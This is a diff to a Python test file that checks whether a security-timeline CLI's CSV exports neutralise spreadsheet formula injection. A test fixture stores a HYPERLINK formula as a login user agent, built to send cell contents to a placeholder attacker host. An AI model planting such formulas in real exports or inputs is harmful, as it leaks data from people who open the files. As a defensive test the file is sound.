@@ -28,7 +28,8 @@ from test_timeline import (
 )
 
 from domain import commands as c
-from domain.context import RequestContext, SteppedClock
+from domain.context import Actor, ActorKind, RequestContext, SteppedClock
+from domain.errors import LoginRefusedError
 from domain.ledger import Ledger
 from secstate.cli import run
 from secstate.cli import timeline_commands as tc
@@ -194,6 +195,37 @@ def test_timesketch_formats_carry_its_required_fields(cli: Cli, fmt: str) -> Non
         assert int(row["timestamp"]) == int(DAY2.timestamp()) * 1_000_000
         assert row["event_type"] == "User.LoginFailed"
         assert json.loads(row["details"])["reason"] == "bad_password"
+
+
+HOSTILE_AGENT = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+@pytest.fixture
+def hostile_cli(cli: Cli, ledger: Ledger) -> Cli:
+    """The test history plus a failed login whose user agent is a spreadsheet formula."""
+    ctx = RequestContext(
+        actor=Actor(ActorKind.USER, "alice"), source_ip=ATTACKER_IP, user_agent=HOSTILE_AGENT
+    )
+    with pytest.raises(LoginRefusedError):
+        ledger.login(c.parse_command(c.Login, username="alice", password="Not-Her-Pass-1"), ctx)
+    return cli
+
+
+@pytest.mark.parametrize("fmt", ["csv", "timesketch-csv"])
+def test_csv_cells_a_spreadsheet_would_evaluate_are_defused(hostile_cli: Cli, fmt: str) -> None:
+    # when
+    rows = hostile_cli.ok("--ip", ATTACKER_IP, "--format", fmt).csv()
+    # then
+    agents = [r["user_agent"] for r in rows]
+    assert "'" + HOSTILE_AGENT in agents
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
+
+
+def test_raw_csv_keeps_cells_verbatim(hostile_cli: Cli) -> None:
+    # when
+    rows = hostile_cli.ok("--ip", ATTACKER_IP, "--format", "csv", "--raw-csv").csv()
+    # then
+    assert HOSTILE_AGENT in [r["user_agent"] for r in rows]
 
 
 def test_output_file_is_written_whole(cli: Cli, tmp_path: Path) -> None:
